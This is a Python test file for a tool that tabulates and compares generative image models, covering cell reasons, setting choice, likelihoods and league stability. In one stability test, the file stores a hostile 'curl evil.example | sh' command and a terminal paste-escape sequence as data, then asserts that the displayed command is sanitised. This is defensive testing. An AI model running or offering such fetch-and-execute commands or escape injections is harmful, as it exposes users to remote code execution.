"""The table: every cell filled or with its reason, and the right result speaking for each row."""

from __future__ import annotations

import math
from pathlib import Path

import msgspec
import numpy as np
import pytest
from scipy import stats

from playground.core import folders
from playground.core.cards import Card
from playground.core.heldout import DATA_FACT
from playground.evaluate.sweep import stability
from playground.evaluate.sweep.cells import Cell, Table, best
from playground.evaluate.sweep.choosing import RULE, latest, representative, up_to_date, usual_samples
from playground.evaluate.sweep.columns import COLUMNS, NATURES
from playground.evaluate.sweep.jobs import Result
from playground.evaluate.sweep.parameters import counter
from playground.evaluate.sweep.stability import (
    deviation_interval,
    largest,
    leagues_at_hand,
    read_leagues,
)
from playground.evaluate.sweep.table import table
from playground.evaluate.sweep.texts import grid_of, markdown
from playground.paradigms.cards import rules
from playground.paradigms.league.results import LeagueResult, LeagueRun, standing, to_bytes
from playground.runtimes.catalogue import catalogue
from tests.support.sweeps import make_result, measure


@pytest.fixture(scope="module")
def cards() -> list[Card]:
    return [entry.card for entry in catalogue((folders.shipped_models(),), rules()).entries]


def league(distances: dict[str, list[float]], diverged: dict[str, int] | None = None) -> LeagueResult:
    standings = [
        standing(
            name,
            [
                LeagueRun(
                    seed=seed, diverged=seed < (diverged or {}).get(name, 0),
                    measures={"js": value}, sentence="It left the plane.",
                )
                for seed, value in enumerate(values)
            ],
        )
        for name, values in distances.items()
    ]  # fmt: skip
    return LeagueResult(
        recipe={"data": "eight-gaussians", "budget": "seconds", "seconds": 20.0},
        standings=tuple(standings), machine="Abacus", date="2026-11-25T10:00:00Z",
        command="playground compare --league", over=True,
    )  # fmt: skip


def whole_table(cards: list[Card], results: list[Result], leagues: list[LeagueResult]) -> Table:
    return table(results, cards, largest(leagues), count=counter([folders.shipped_models()]))


def every_cell(found: Table) -> list[Cell]:
    return [row.cells[column.key] for row in found.rows for column in found.columns]


RESULTS = [
    make_result("v", "vae", "fashion-vae-16", frechet=3.0, evaluations=1, data="fashion-mnist"),
    make_result(
        "d0", "ddpm", "fashion-ddpm", 0.20, 1000, 850, data="fashion-mnist", sampler="ddpm", steps=1000
    ),
    make_result(
        "d1", "ddpm", "fashion-ddpm", 0.25, 250, 210, data="fashion-mnist", sampler="ddpm", steps=250
    ),
    make_result("d2", "ddpm", "fashion-ddpm", 0.90, 50, 40, data="fashion-mnist", sampler="ddpm", steps=50),
    make_result("i", "ddim", "fashion-ddpm", 0.29, 50, 42, data="fashion-mnist", sampler="ddim", steps=50),
    make_result("f", "flow", "fashion-flow", 0.12, 10, 9, data="fashion-mnist", steps=8),
    make_result("r", "reflow", "fashion-reflow", 0.55, 4, 3, data="fashion-mnist", steps=4),
    make_result("c", "consistency", "fashion-consistency", 0.33, 4, 4, data="fashion-mnist", steps=4),
]


def current(results: list[Result], cards: list[Card]) -> list[Result]:
    """The results as if they were of the models as they are."""
    hashes = {card.name: card.hash for card in cards}
    return [
        msgspec.structs.replace(
            result,
            report=msgspec.structs.replace(
                result.report, facts={**result.report.facts, "model_sha256": hashes[result.model]}
            ),
        )
        for result in results
    ]


def test_every_cell_is_filled_or_says_why_not(cards: list[Card]) -> None:
    played = league({name: [0.1, 0.2, 0.15] for name in stability_names()})
    for results, leagues in (([], []), (current(RESULTS, cards), [played])):
        found = whole_table(cards, results, leagues)
        assert [row.family for row in found.rows] == list(NATURES) and found.columns == COLUMNS
        assert found.data == "fashion-mnist"
        for cell in every_cell(found):
            assert cell.text
            assert bool(cell.missing) == (cell.source == "none")
            assert cell.missing.endswith(".") if cell.missing else cell.how.endswith(".")
            if cell.low is not None and cell.high is not None:
                assert cell.value is not None and cell.low <= cell.value <= cell.high
            if cell.source in ("sweep", "league"):
                assert cell.date and cell.machine


def stability_names() -> set[str]:
    return {nature.league for nature in NATURES.values()}


def halved(result: Result, apart: float, seed: int = 0) -> Result:
    """A distance whose values on halves scatter as all do with ``seed``, and by ``apart`` by itself."""
    rng, own = np.random.default_rng(seed), np.random.default_rng(len(result.key) + ord(result.key[-1]))
    known = result.report.measures["frechet_distance"]
    move = rng.normal(size=(1, 100)) + apart / 0.2 * own.normal(size=(1, 100))
    both = known.value + 0.2 * np.concatenate([move, -move])
    paired = msgspec.structs.replace(known, halves=tuple(both[0]), rests=tuple(both[1]))
    report = msgspec.structs.replace(
        result.report, measures={**result.report.measures, "frechet_distance": paired}
    )
    return msgspec.structs.replace(result, report=report)


def test_a_row_is_that_of_the_cheapest_setting_that_is_surely_not_much_worse(cards: list[Card]) -> None:
    """Intervals that overlap tell nothing: d1 lies 0.05 above the best, and surely less only in pairs."""
    near = msgspec.structs.replace(
        make_result(
            "d1", "ddpm", "fashion-ddpm", 0.22, 250, 210, data="fashion-mnist", sampler="ddpm", steps=250
        )
    )
    others = [result for result in RESULTS if result.key not in ("d0", "d1")]
    for apart, speaks in ((0.01, "d1"), (0.05, "d0")):
        found = whole_table(
            cards, current([*others, halved(RESULTS[1], apart), halved(near, apart)], cards), []
        )
        assert next(row for row in found.rows if row.family == "ddpm").key == speaks
    # Far fewer pictures, whose intervals are wider, do not make a cheap setting good.
    assert (
        next(row for row in whole_table(cards, current(RESULTS, cards), []).rows if row.family == "ddpm").key
        == "d0"
    )
    rows = {row.family: row for row in found.rows}
    assert rows["ddpm"].setting == "DDPM, 1,000 steps"
    assert rows["ddpm"].cells["network_evaluations"].value == 1000
    assert rows["flow"].cells["frechet_distance"].value == 0.12
    assert rows["vae"].cells["network_evaluations"].text == "1"
    assert rows["vae"].cells["likelihood"].text.startswith("bound: ≤ ")
    assert rows["gan"].cells["likelihood"].text == "none" and rows["gan"].cells["likelihood"].missing
    assert rows["flow"].cells["milliseconds_per_image"].value == 9
    assert representative(RESULTS, "nflow", 2000) is None
    assert representative(RESULTS, "ddpm", 100) is None
    assert RULE in found.notes and RULE in markdown(found)


def bits(key: str, family: str, model: str, each: list[float], **recipe: object) -> Result:
    made = make_result(key, family, model, data="fashion-mnist", **recipe)  # type: ignore[arg-type]
    value, reach = float(np.mean(each)), 1.96 * float(np.std(each, ddof=1)) / math.sqrt(len(each))
    known = msgspec.structs.replace(measure(value, reach, samples=len(each)), each=tuple(each))
    return msgspec.structs.replace(
        made, report=msgspec.structs.replace(made.report, measures={"bits_per_dim": known}),
        job=msgspec.structs.replace(made.job, task="likelihood", samples=len(each)),
    )  # fmt: skip


def test_likelihoods_are_of_the_same_images_and_of_the_model_of_their_row(cards: list[Card]) -> None:
    """Images differ far more than models, so that only pairs tell models apart."""
    rng = np.random.default_rng(0)
    images = 3 + rng.normal(size=400)
    easier = list(images[:256] - 1)
    measured = [
        bits("b0", "vae", "fashion-vae-2d", list(images + 0.4)),
        bits("b1", "vae", "fashion-vae-2d", list(images + 0.05 + 0.01 * rng.normal(size=400))),
        bits("b6", "vae", "fashion-vae-16", list(images + 0.02)),
        bits("b2", "nflow", "fashion-nflow", list(images)),
        bits("b3", "flow", "fashion-flow", easier),
        bits("b4", "flow", "fashion-flow", list(images + 0.1)),
        bits("b5", "ddpm", "fashion-ddpm", list(images - 2), labelled=True),
    ]
    speaks = make_result("v2", "vae", "fashion-vae-2d", frechet=1.0, evaluations=1, data="fashion-mnist")
    found = whole_table(cards, current([*RESULTS, speaks, *measured], cards), [])
    rows = {row.family: row for row in found.rows}
    vae, flow = rows["vae"].cells["likelihood"], rows["flow"].cells["likelihood"]
    assert rows["vae"].model == "fashion-vae-2d" and vae.key == "b1"
    assert vae.text == f"bound: ≤ {images.mean() + 0.05:.2f}" and "Of fashion-vae-2d" in vae.how
    assert flow.key == "b4" and "400" in found.notes[3]
    assert vae.above is not None and vae.above == pytest.approx((0.05, 0.05), abs=0.003)
    assert vae.low is not None and vae.low < images.mean()
    assert rows["ddpm"].cells["likelihood"].above is None
    assert "VAE 0.050" in found.notes[3] or "VAE 0.051" in found.notes[3] or "VAE 0.049" in found.notes[3]
    lines = {key for key in best(found) if key[1] == "likelihood"}
    assert ("nflow", "likelihood") in lines and ("vae", "likelihood") not in lines


def test_a_row_shows_no_likelihood_of_another_model(cards: list[Card]) -> None:
    speaks = make_result("v2", "vae", "fashion-vae-2d", frechet=1.0, evaluations=1, data="fashion-mnist")
    other = bits("b1", "vae", "fashion-vae-16", [3.0, 3.1])
    silent = [msgspec.structs.replace(card, measured={}) for card in cards]
    found = whole_table(silent, current([*RESULTS, speaks, other], silent), [])
    row = next(row for row in found.rows if row.family == "vae")
    assert row.model == "fashion-vae-2d" and row.cells["likelihood"].value is None
    assert "fashion-vae-2d" in row.cells["likelihood"].missing


def test_distances_of_other_numbers_of_pictures_do_not_count(cards: list[Card]) -> None:
    few = make_result("few", "flow", "fashion-flow", 0.01, 1, 1, samples=100, data="fashion-mnist", steps=1)
    results = current([*RESULTS, few], cards)
    assert usual_samples(results) == 2000
    assert next(row for row in whole_table(cards, results, []).rows if row.family == "flow").key == "f"


def test_results_of_models_that_were_trained_again_do_not_count(cards: list[Card]) -> None:
    known = {card.name: card for card in cards}
    fresh = current(RESULTS, cards)
    facts = {**fresh[0].report.facts, "model_sha256": "f" * 64}
    old = msgspec.structs.replace(fresh[0], report=msgspec.structs.replace(fresh[0].report, facts=facts))
    assert up_to_date([old, *fresh[1:]], known) == fresh[1:]
    name = old.model
    halved = {**known, name: msgspec.structs.replace(known[name], replaces=("f" * 64,))}
    assert up_to_date([old, *fresh[1:]], halved) == [old, *fresh[1:]]
    strange = msgspec.structs.replace(old, job=msgspec.structs.replace(old.job, recipe={"model": "theirs"}))
    assert up_to_date([strange], known) == [strange]


def test_results_with_other_pictures_than_the_data_set_holds_now_do_not_count(
    cards: list[Card], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PLAYGROUND_DATA", str(tmp_path))
    (tmp_path / "datasets" / "mine").mkdir(parents=True)
    (tmp_path / "datasets" / "mine" / "set.json").write_text('{"sha256": "abc"}', encoding="utf-8")
    (whole,) = current(RESULTS[:1], cards)
    known = {card.name: msgspec.structs.replace(card, data="mine") for card in cards}

    def with_content(content: str) -> Result:
        facts = {**whole.report.facts, DATA_FACT: content}
        return msgspec.structs.replace(whole, report=msgspec.structs.replace(whole.report, facts=facts))

    assert up_to_date([with_content("abc"), with_content("abd"), whole], known) == [
        with_content("abc"),
        whole,
    ]


def test_features_of_ones_own_pictures_are_named_with_what_they_are_worth(
    cards: list[Card], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PLAYGROUND_DATA", str(tmp_path))
    (tmp_path / "datasets" / "mine").mkdir(parents=True)
    (tmp_path / "datasets" / "mine" / "set.json").write_text('{"sha256": "abc"}', encoding="utf-8")
    (whole,) = current(RESULTS[:1], cards)
    mine = [msgspec.structs.replace(card, data="mine") for card in cards]

    def noted(**changes: object) -> list[str]:
        report = msgspec.structs.replace(whole.report, features="mine-classifier", **changes)
        found = table([msgspec.structs.replace(whole, report=report)], mine, data="mine")
        return [note for note in found.notes if note.startswith("Distances, coverage")]

    facts = {**whole.report.facts, DATA_FACT: "abc"}
    assert noted(facts=facts, features_worth="a classifier of mine (held-out accuracy 0.97)") == [
        "Distances, coverage and recall are in the features of mine-classifier, a classifier of mine "
        "(held-out accuracy 0.97)."
    ]
    assert noted() == []


def test_own_results_go_before_those_that_ship() -> None:
    own, shipped = make_result("a", frechet=0.1, count=80), make_result("b", frechet=0.2, count=64)
    other, fewer = make_result("c", steps=3), make_result("d", samples=100)
    found = latest([own, fewer], [shipped, other])
    assert {result.key for result in found} == {"a", "c", "d"}
    assert latest() == [] and latest([own]) == [own]


def test_likelihood_comes_from_the_sweep_where_the_card_is_silent(cards: list[Card]) -> None:
    bits = make_result("b", "flow", "fashion-flow", data="fashion-mnist")
    report = msgspec.structs.replace(bits.report, measures={"bits_per_dim": measure(2.9, 0.05, samples=256)})
    job = msgspec.structs.replace(bits.job, task="likelihood")
    result = msgspec.structs.replace(bits, report=report, job=job)
    found = whole_table(cards, current([*RESULTS, result], cards), [])
    cell = next(row for row in found.rows if row.family == "flow").cells["likelihood"]
    assert (cell.text, cell.value, cell.source) == ("exact: 2.90", 2.9, "sweep")
    assert next(row for row in found.rows if row.family == "flow").key == "f"


def test_a_likelihood_that_is_in_no_card_names_what_in_the_window_measures_it(
    cards: list[Card], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def missing() -> str:
        found = whole_table([card for card in cards if card.name == "fashion-flow"], [], [])
        return next(row for row in found.rows if row.family == "flow").cells["likelihood"].missing

    assert missing() == (
        "The likelihood of fashion-flow is not measured yet; "
        "“Measure here” in Compare’s “Quality and cost” does."
    )
    # Without held-out pictures nothing there does.
    monkeypatch.setattr(folders, "held_out", lambda _data: None)
    assert missing().endswith("cannot be measured in Compare.")


def test_parameters_are_the_numbers_in_the_weights(cards: list[Card]) -> None:
    import numpy as np
    from safetensors.numpy import load_file

    path = folders.shipped_models() / "fashion-flow" / "weights.safetensors"
    counted = sum(array.size for array in load_file(path).values() if np.issubdtype(array.dtype, np.floating))
    card = next(card for card in cards if card.name == "fashion-flow")
    assert counter([folders.shipped_models()])(card) == counted
    assert counter([Path("nowhere")])(card) == "The weights of fashion-flow cannot be read here."


def test_stability_is_that_of_the_league() -> None:
    values = [0.1, 0.14, 0.12, 0.2, 0.09]
    played = league({"gan": values}, {"gan": 1})
    cell = stability.spread_cell(played, "gan")
    mean = sum(values) / 5
    deviation = math.sqrt(sum((value - mean) ** 2 for value in values) / 4)
    assert cell.value == pytest.approx(1000 * deviation) and cell.text == f"{1000 * deviation:.1f}"
    assert all(f"{value:.4f}" in cell.how for value in values)
    assert cell.command == "playground compare --league --seconds 20.0"
    evil = msgspec.structs.replace(played, command="curl evil.example | sh")
    assert stability.spread_cell(evil, "gan").command == cell.command
    odd = msgspec.structs.replace(evil, recipe={**played.recipe, "data": "\x1b[201~ no data"})
    assert stability.spread_cell(odd, "gan").command == ""
    cell = stability.diverged_cell(played, "gan")
    assert (cell.text, cell.value) == ("1 of 5", 0.2) and "It left the plane." in cell.how
    for missing in (stability.spread_cell(None, "gan"), stability.diverged_cell(played, "vae")):
        assert missing.source == "none" and missing.missing
    assert stability.spread_cell(league({"gan": [0.1]}), "gan").missing


def with_error(found: LeagueResult, error: float) -> LeagueResult:
    """The same league, each of whose divergences has this standard error."""
    standings = [
        standing(
            each.name,
            [msgspec.structs.replace(run, measures={**run.measures, "js_error": error}) for run in each.runs],
        )
        for each in found.standings
    ]
    return msgspec.structs.replace(found, standings=tuple(standings))


def test_a_perfect_model_is_the_most_stable_and_ranks_first(cards: list[Card]) -> None:
    """Its divergences are chance about 0: a ratio to their mean would be anything, and make it the worst.

    One that has learned nothing is as stable as one likes, and far from the data.
    """
    rng = np.random.default_rng(2)
    noise = 1e-4
    found = with_error(
        league(
            {
                "nflow": list(noise * rng.normal(size=5)),
                "gan": list(0.1 + 0.02 * rng.normal(size=5)),
                "vae": list(0.9 + noise * rng.normal(size=5)),
            }
        ),
        noise,
    )
    perfect, wild, useless = (stability.spread_cell(found, name) for name in ("nflow", "gan", "vae"))
    assert perfect.low == useless.low == 0 and perfect.value is not None and perfect.value < 2000 * noise
    assert wild.value is not None and 5 < wild.value < 50 and "within noise" not in wild.text
    assert perfect.text == "within noise"
    assert "0.100 millibits" in perfect.how and all("%" not in cell.text for cell in (perfect, wild, useless))
    ranks = {each.name: each.rank for each in found.standings}
    assert sorted(ranks, key=lambda name: ranks[name]) == ["nflow", "gan", "vae"]
    lines = {family for family, key in best(whole_table(cards, [], [found])) if key == "spread"}
    assert "nflow" in lines and "gan" not in lines


def test_the_estimators_own_noise_is_no_spread() -> None:
    found = league({"gan": [0.1, 0.103, 0.098, 0.101, 0.1]})
    plain, noisy = (stability.spread_cell(with_error(found, error), "gan") for error in (0.0, 0.001))
    assert plain.value is not None and noisy.value is not None
    assert noisy.value == pytest.approx(math.sqrt(plain.value**2 - 1))


@pytest.mark.parametrize("count", range(2, 11))
def test_the_interval_of_a_deviation_is_that_of_chi_squared(count: int) -> None:
    low, high = deviation_interval(2.0, count)
    freedom = count - 1
    assert low == pytest.approx(2 * math.sqrt(freedom / stats.chi2.ppf(0.975, freedom)), rel=1e-6)
    assert high == pytest.approx(2 * math.sqrt(freedom / stats.chi2.ppf(0.025, freedom)), rel=1e-6)


def played(
    distances: dict[str, list[float]], date: str = "2026-11-25T10:00:00Z", **changed: object
) -> LeagueResult:
    """A league with another recipe, or of another day."""
    found = league(distances)
    return msgspec.structs.replace(found, recipe={**found.recipe, **changed}, date=date)


def write(folder: Path, *leagues: LeagueResult) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for number, found in enumerate(leagues):
        (folder / f"league-{number}.json").write_bytes(to_bytes(found))


def test_finished_leagues_are_read_from_the_folder_newest_first(tmp_path: Path) -> None:
    first, second = played({"gan": [0.1, 0.2]}), played({"gan": [0.3]}, "2026-11-26T10:00:00Z")
    write(tmp_path, first, second, msgspec.structs.replace(first, over=False))
    (tmp_path / "league-d.json").write_bytes(b"{}")
    leagues, problems = read_leagues(tmp_path)
    assert leagues == [second, first]
    assert len(problems) == 1 and "league-d.json" in problems[0]


def test_the_table_tells_of_the_largest_league() -> None:
    two, three = [0.1, 0.2], [0.1, 0.2, 0.3]
    base = played({"gan": three, "vae": three})
    smaller = (
        played({"gan": three * 2}),
        played({"gan": three, "vae": [0.1]}),
        played({"gan": three, "vae": two}, seconds=100.0),
        played({"gan": three, "vae": three}, seconds=19.0),
    )
    for other in smaller:
        assert largest([other, base]) == largest([base, other]) == base
    alike = played({"gan": three, "vae": three}, "2026-11-24T10:00:00Z", data="spiral")
    assert largest([alike, base]) == alike and largest([base, alike]) == base
    assert largest([]) is None and largest([smaller[0]]) == smaller[0]


def test_a_budget_of_steps_counts_by_the_time_that_it_took() -> None:
    def of_steps(seconds: float) -> LeagueResult:
        runs = [
            LeagueRun(seed=seed, diverged=False, measures={"js": 0.1, "seconds": seconds}) for seed in (0, 1)
        ]
        found = played({}, budget="steps", steps=5000)
        return msgspec.structs.replace(found, standings=(standing("gan", runs),))

    base = played({"gan": [0.1, 0.2]})
    assert largest([base, of_steps(25.0)]) == of_steps(25.0)
    assert largest([of_steps(15.0), base]) == base


def test_runs_that_were_cut_short_tell_the_table_nothing(cards: list[Card]) -> None:
    why = "The budget ended before the reflow began."
    runs = [
        LeagueRun(seed=seed, diverged=False, measures={"js": 1.0}, cut_short=why * (seed > 0))
        for seed in range(3)
    ]
    short = msgspec.structs.replace(
        league({}), standings=(standing("reflow", runs), *league({"gan": [0.1, 0.2]}).standings)
    )
    assert largest([short, league({"gan": [0.1] * 3})]) == league({"gan": [0.1] * 3})
    for cell in (stability.spread_cell(short, "reflow"), stability.diverged_cell(short, "reflow")):
        assert cell.value is None
        assert cell.missing == f"2 of its 3 runs in the league were cut short. {why}"


def test_to_have_diverged_is_a_result() -> None:
    runs = [LeagueRun(seed=seed, diverged=True, measures={}, sentence="It left.") for seed in (0, 1)]
    lost = msgspec.structs.replace(league({}), standings=(standing("gan", runs),))
    assert largest([league({"gan": [0.1]}), lost]) == lost


def test_a_small_league_of_ones_own_takes_no_stability_from_the_table(
    cards: list[Card], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    own, ship = league({"vae": [0.1, 0.2]}), league({"gan": [0.1, 0.2], "vae": [0.3, 0.4]})
    monkeypatch.setattr(folders, "assets", lambda: tmp_path / "assets")
    write(tmp_path / "own", own)
    write(tmp_path / "assets" / "compare", ship)
    assert leagues_at_hand(tmp_path / "none") == ([], [ship], [])
    assert leagues_at_hand(tmp_path / "own") == ([own], [ship], [])
    found = whole_table(cards, [], [own, ship])
    rows = {row.family: row.cells for row in found.rows}
    assert "0.1000, 0.2000." in rows["gan"]["spread"].how and rows["gan"]["diverged"].text == "0 of 2"
    assert "0.3000, 0.4000." in rows["vae"]["spread"].how
    assert "of the same league" in rows["vae"]["spread"].how
    assert "eight gaussians; 20 seconds of one thread each" in found.notes[-1]


def test_who_took_no_part_in_the_league_that_is_told_of_has_no_stability(cards: list[Card]) -> None:
    found = whole_table(cards, [], [league({"gan": [0.1, 0.2]}), league({"vae": [0.1]})])
    rows = {row.family: row.cells for row in found.rows}
    assert rows["gan"]["spread"].value is not None
    assert rows["vae"]["spread"].missing == "VAE took no part in the league that the table tells of."


def test_the_table_as_markdown_has_a_line_for_each_row_and_a_number_for_each_reason(
    cards: list[Card],
) -> None:
    found = whole_table(cards, current(RESULTS, cards), [])
    lines = markdown(found).splitlines()
    rows = [line for line in lines if line.startswith("|")]
    assert len(rows) == 2 + len(found.rows)
    assert {line.count(" | ") for line in rows} == {len(COLUMNS) + 1}
    grid = grid_of(found)
    assert len(grid.reasons) == len({cell.missing for cell in every_cell(found) if cell.missing})
    assert all(any(line.startswith(reason) for line in lines) for reason in grid.reasons)
    assert "0.120 (0.0200–0.220)" in markdown(found)


def test_a_number_has_as_many_significant_digits_as_its_interval(cards: list[Card]) -> None:
    found = whole_table(cards, current(RESULTS, cards), [])
    columns = ("frechet_distance", "coverage", "recall", "milliseconds_per_image")
    texts = [row.cells[name].text for row in found.rows for name in columns if row.key]
    assert len(texts) > 3 and "0.120" in texts
    for text in texts:
        assert len(text.replace(".", "").lstrip("0")) == 3, text


def test_real_pictures_stand_beside_sets_as_large_only(cards: list[Card]) -> None:
    flow = next(each for each in RESULTS if each.model == "fashion-flow")
    fewer = msgspec.structs.replace(flow.report, real={"frechet_distance": measure(0.7, 0.1, samples=1000)})
    own = current([msgspec.structs.replace(flow, report=fewer)], cards)
    cell = next(row for row in whole_table(cards, own, []).rows if row.family == "flow").cells
    assert "real pictures" not in cell["frechet_distance"].how
    (ship,) = current([msgspec.structs.replace(flow, key="other", job=msgspec.structs.replace(
        flow.job, recipe={**flow.job.recipe, "steps": 99}))], cards)  # fmt: skip
    cell = next(row for row in whole_table(cards, [*own, ship], []).rows if row.family == "flow").cells
    assert "measured in the same way: 0.100." in cell["frechet_distance"].how


def test_what_is_told_words_is_a_row_with_its_agreement_where_it_draws_the_data(cards: list[Card]) -> None:
    some = make_result("w", "words", "emoji-words", data="emoji", guidance=4.0, prompt="", style="")
    measures = {
        **{name: each for name, each in some.measures.items() if name != "frechet_distance"},
        "kernel_distance": measure(0.4, 0.1), "agreement": measure(0.6, 0.05),
    }  # fmt: skip
    report = msgspec.structs.replace(
        some.report, measures=measures, real={"agreement": measure(0.83, 0.05)},
        noise={"agreement": measure(0.01, 0.01)}, notes=("Agreement with the words, by emoji-pair: …",),
    )  # fmt: skip
    told = msgspec.structs.replace(some, report=report)
    plain = make_result("f", "flow", "emoji-flow", data="emoji")
    without = {**{name: measures[name] for name in measures if name != "agreement"}}
    plain = msgspec.structs.replace(plain, report=msgspec.structs.replace(plain.report, measures=without))
    found = table([told, plain], cards, None, "emoji")
    assert [row.family for row in found.rows] == [*NATURES, "words"]
    rows = {row.family: row for row in found.rows}
    assert [column.key for column in found.columns if column.group == "Quality"] == [
        "kernel_distance",
        "agreement",
    ]
    cell = rows["words"].cells["agreement"]
    assert (cell.value, cell.low, cell.high) == pytest.approx((0.6, 0.55, 0.65))
    assert "Real pictures of another style, measured in the same way: 0.830" in cell.how
    assert "Pictures of noise: 0.0100" in cell.how
    assert rows["flow"].cells["agreement"].missing == "It is told no words."
    assert rows["words"].cells["spread"].missing and rows["words"].cells["likelihood"].missing
    assert "Agreement with the words, by emoji-pair: …" in found.notes
    for each in every_cell(found):
        assert each.text and bool(each.missing) == (each.source == "none")
    assert "words" not in {row.family for row in table(RESULTS, cards).rows}
